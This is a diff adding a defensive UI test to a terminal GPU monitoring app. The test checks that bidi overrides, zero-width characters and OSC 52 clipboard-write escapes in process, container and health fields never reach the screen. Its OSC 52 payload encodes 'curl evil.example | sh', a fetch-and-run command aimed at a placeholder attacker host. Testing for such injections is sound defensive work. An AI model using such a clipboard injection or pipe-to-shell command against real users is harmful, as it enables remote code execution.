@@ -2,18 +2,22 @@
 
 from __future__ import annotations
 
+import base64
 import re
+import time
+from dataclasses import replace
 
 from conftest import AppFactory
 from pilot_helpers import ready, screen_lines
 from textual.pilot import Pilot
 from textual.widgets import Static
-from ui_factories import FakeCollector, cid, container, proc, snapshot
+from ui_factories import FakeCollector, cid, container, gpu, proc, snapshot
 
-from gputui.model import ExecResult
+from gputui.model import ExecResult, HealthCheck, HealthStatus, HostInfo, Snapshot
 from gputui.ui.app import GpuTuiApp
+from gputui.ui.screens.confirm import ConfirmScreen
 from gputui.ui.screens.evidence import EvidenceScreen
-from gputui.ui.screens.exec_modal import ExecScreen
+from gputui.ui.screens.exec_modal import MAX_OUTPUT_LINES, ExecScreen
 
 #: C0 and C1 control characters and DEL: none may reach a rendered cell.
 CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
@@ -121,3 +125,158 @@ async def test_hostile_strings_render_inert_everywhere(make_app: AppFactory) -> 
         text = _assert_inert(app, "exec modal")
         assert f"nvidia-smi in {MARKUP}name" in text
         assert f"{MARKUP}stdout" in text
+
+
+# ------------------------------------- bidi overrides, zero-width characters, OSC 52 writes
+
+RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: would show "exe.txt" as "txt.exe"
+ZWSP = "\u200b"  # ZERO WIDTH SPACE: two names that look alike but differ
+ZWJ = "\u200d"
+#: OSC 52: a terminal that honours it puts the payload on the user's clipboard.
+CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()
+OSC52 = f"\x1b]52;c;{CLIPBOARD}\x07"
+#: The same through the 8-bit C1 introducer and an ST terminator: made inert (the introducer
+#: becomes a visible "?"), the payload then only text.
+OSC52_C1 = f"\x9d52;c;{CLIPBOARD}\x1b\\"
+INVISIBLE = (RLO, ZWSP, ZWJ, "\u2066", "\u2069", "\ufeff")
+
+
+def sneaky(tag: str) -> str:
+    return f"{tag}{RLO}gpj.exe{ZWSP}{ZWJ}\u2066x\u2069\ufeff{OSC52}{MARKUP}{OSC52_C1}"
+
+
+def _assert_invisible_free(app: GpuTuiApp, where: str) -> str:
+    text = _assert_inert(app, where)
+    for char in INVISIBLE:
+        assert char not in text, (where, hex(ord(char)))
+    assert "]52;c;" not in text, where  # the 7-bit OSC 52 write is stripped whole
+    svg = app.export_screenshot()
+    assert "\x9d" not in svg and RLO not in svg and ZWSP not in svg, where
+    return text
+
+
+def _sneaky_snapshot() -> Snapshot:
+    processes = [proc(611, 0, 4096, cid(1), sneaky("cmd"), user=sneaky("u")[:20])]
+    containers = [
+        container(
+            1,
+            sneaky("name"),
+            processes,
+            image=sneaky("image"),
+            compose_project=sneaky("proj"),
+            compose_service=sneaky("svc"),
+            k8s_pod=sneaky("pod"),
+            k8s_namespace=sneaky("ns"),
+        )
+    ]
+    health = [
+        HealthCheck(
+            sneaky("check.id"),
+            HealthStatus.FAIL,
+            sneaky("summary"),
+            details=(sneaky("detail"),),
+            fix=sneaky("fix") + "\n" + sneaky("fix2"),
+            docs=sneaky("docs"),
+            subject=sneaky("subject"),
+        )
+    ]
+    base = snapshot(
+        gpus=(gpu(0, name=sneaky("gpu")),),
+        processes=processes,
+        containers=containers,
+        health=health,
+    )
+    host = HostInfo(
+        hostname=sneaky("host"),
+        driver_version=sneaky("580"),
+        cuda_driver_version=sneaky("13"),
+    )
+    return replace(base, host=host)
+
+
+async def test_bidi_zero_width_and_osc52_never_reach_the_screen(make_app: AppFactory) -> None:
+    lines = "\n".join(f"{i:05d} {sneaky('line')}" for i in range(10_000))
+    exec_result = ExecResult(
+        (sneaky("nvidia-smi"),), 0, stdout=lines, stderr=sneaky("err"), error=sneaky("error")
+    )
+    collector = FakeCollector([_sneaky_snapshot()], exec_result=exec_result)
+    collector.signal_answer = sneaky("refused")
+    app = make_app(collector)
+    async with app.run_test(size=(200, 50)) as pilot:
+        await ready(pilot)
+        await _settle(pilot)
+        text = _assert_invisible_free(app, "containers tab + header + GPU panel")
+        assert "name?gpj.exe" in text  # shown, with the override as a visible "?"
+        assert "580?gpj.exe" in app.main.header.text  # the driver version in the header
+        for node in app.main.ctree.nodes_by_key.values():
+            for char in INVISIBLE:
+                assert char not in node.label.plain
+
+        for tab in ("2", "4", "5", "3"):
+            await pilot.press(tab)
+            await _settle(pilot)
+            _assert_invisible_free(app, f"tab {tab}")
+        app.main.health.table.move_cursor(row=0)
+        await _settle(pilot)
+        text = _assert_invisible_free(app, "health details")
+        assert "fix?gpj.exe" in text
+
+        await pilot.press("1")
+        await _settle(pilot)
+        tree = app.main.ctree
+        tree.move_cursor(tree.nodes_by_key[f"c:{cid(1)}"])
+        await _settle(pilot)
+        await pilot.press("e")
+        await _settle(pilot)
+        assert isinstance(app.screen, EvidenceScreen)
+        _assert_invisible_free(app, "evidence view")
+        await pilot.press("escape")
+        await _settle(pilot)
+
+        tree.move_cursor(tree.nodes_by_key[f"c:{cid(1)}"])
+        await _settle(pilot)
+        started = time.monotonic()
+        await pilot.press("x")
+        for _ in range(250):
+            if isinstance(app.screen, ExecScreen) and app.screen.result is not None:
+                break
+            await pilot.pause(0.02)
+        await _settle(pilot)
+        assert isinstance(app.screen, ExecScreen)
+        assert time.monotonic() - started < 10  # 10,000 lines do not stall the UI
+        title = str(app.screen.query_one(".dialog-title", Static).render())
+        for char in INVISIBLE:
+            assert char not in title
+        output = str(app.screen.query_one("#exec-output", Static).content)
+        for char in INVISIBLE:
+            assert char not in output
+        assert "]52;c;" not in output and "\x1b" not in output and "\x9d" not in output
+        assert "00000 line?gpj.exe" in output
+        assert f"{10_000 - MAX_OUTPUT_LINES:,} more lines not shown" in output
+        assert output.count("\n") < MAX_OUTPUT_LINES + 50  # bounded, whatever the command printed
+        _assert_invisible_free(app, "exec modal")
+        await pilot.press("escape")
+        await _settle(pilot)
+
+        # Notifications carry names and engine texts: plain text, sanitised.
+        await pilot.press("2")
+        await _settle(pilot)
+        await pilot.press("T")
+        await _settle(pilot)
+        assert isinstance(app.screen, ConfirmScreen)
+        assert "cmd?gpj.exe" in _assert_invisible_free(app, "confirmation")
+        await pilot.press("y")
+        for _ in range(100):
+            if any("failed" in n.message for n in app._notifications):
+                break
+            await pilot.pause(0.02)
+        app.notify(sneaky("direct") + "[/]", title=sneaky("title"))  # unbalanced markup too
+        await _settle(pilot)
+        messages = [(n.title, n.message) for n in app._notifications]
+        assert any("refused?gpj.exe" in m for _, m in messages), messages
+        for title_text, message in messages:
+            for char in INVISIBLE:
+                assert char not in message and char not in title_text
+            assert "]52;c;" not in message and "\x1b" not in message and "\x9d" not in message
+        assert all(not n.markup for n in app._notifications)
+        _assert_invisible_free(app, "notifications")
